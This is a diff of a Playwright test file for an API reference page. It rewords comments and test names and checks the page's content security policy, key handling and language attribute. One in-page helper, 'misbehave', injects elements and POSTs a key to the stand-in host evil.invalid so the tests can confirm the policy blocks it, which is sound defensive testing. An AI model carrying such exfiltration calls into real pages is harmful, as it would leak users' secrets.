@@ -1,9 +1,10 @@
 /**
- * The reference at `/docs` in a real browser: it shares the dashboard's origin, so nothing else may run in it or be reached from it.
+ * The API reference at `/docs` in a real browser: it shares the dashboard's origin, so nothing else may run in it or be reached from
+ * it.
  *
- * Planted and seen red: no policy of its own; a scheme named `Bearer`, of which the page makes a user's name and a password; a body
- * without an example, which the page fills with empty texts; no scheme of choice, so that the key is asked for nowhere; no
- * language, as the page comes from the library.
+ * Planted and seen red: no policy of its own; a scheme named `Bearer`, which the page shows as user name and password; a body without
+ * an example, which the page fills with empty texts; no preselected scheme, so that there is no field for the key; no language, as the
+ * library's page has none.
  */
 import type { Page } from "playwright-core"
 import { assert, it } from "vitest"
@@ -18,7 +19,7 @@ const open = async (operation = "tag/account/GET/v1/models"): Promise<Page> => {
   return page
 }
 
-/** Opens the try-out of a call, types a key into it, and sends what the page has filled in. */
+/** Opens the try-out of a call, types a key into it, and sends the request as the page has prepared it. */
 const tryOut = async (page: Page, path: string, key: string) => {
   await page.getByRole("button", { name: new RegExp(`Test Request.*${path}`) }).click()
   const client = page.getByRole("dialog")
@@ -30,13 +31,13 @@ const tryOut = async (page: Page, path: string, key: string) => {
   return answer
 }
 
-/** The page tries once whether it may evaluate text, and goes on without. */
+/** The page tries once whether it may use eval, and continues without it. */
 const forgetEvaluation = () => {
   const others = dashboard.offences.reports.filter((report) => !report.startsWith("script-src eval "))
   dashboard.offences.reports.splice(0, Infinity, ...others)
 }
 
-it("calls the API with a key that is typed into it, and keeps the key nowhere", async () => {
+it("calls the API with a key that is typed into it, and stores the key nowhere", async () => {
   const { key } = await dashboard.newCustomer()
   const page = await open()
   assert.strictEqual((await tryOut(page, "/v1/models", key)).status(), 200)
@@ -47,7 +48,7 @@ it("calls the API with a key that is typed into it, and keeps the key nowhere", 
   forgetEvaluation()
 })
 
-/** Tries to run text and to reach somebody else from within the page. Runs in the page. */
+/** Tries to run text as code and to reach another origin from within the page. Runs in the page. */
 const misbehave = () => {
   const add = (name: string, attributes: object) =>
     document.body.append(Object.assign(document.createElement(name), attributes))
@@ -58,7 +59,7 @@ const misbehave = () => {
   fetch("https://evil.invalid/", { method: "POST", body: "key" }).catch(() => undefined)
 }
 
-it("runs no other script, and asks nobody but the server that it comes from", async () => {
+it("runs no other script, and sends requests only to its own server", async () => {
   const page = await open()
   await page.evaluate(misbehave)
   const stopped = [
@@ -73,20 +74,20 @@ it("runs no other script, and asks nobody but the server that it comes from", as
   for (const seen of Object.values(dashboard.offences)) seen.length = 0
 })
 
-it("has a place for the key on its first page", async () => {
+it("has a field for the key on its first page", async () => {
   const page = await open()
   await page.getByRole("main").getByPlaceholder("Token").first().waitFor()
   forgetEvaluation()
 })
 
-it("tries a check at a click", async () => {
+it("sends a check at one click", async () => {
   const { key } = await dashboard.newCustomer()
   const page = await open("tag/check/POST/v1/check")
   assert.strictEqual((await tryOut(page, "/v1/check", key)).status(), 200)
   forgetEvaluation()
 })
 
-it("says which language it is in, for those who have it read to them", async () => {
+it("declares its language, for screen readers", async () => {
   const page = await open()
   assert.strictEqual(await page.getAttribute("html", "lang"), "en")
   forgetEvaluation()
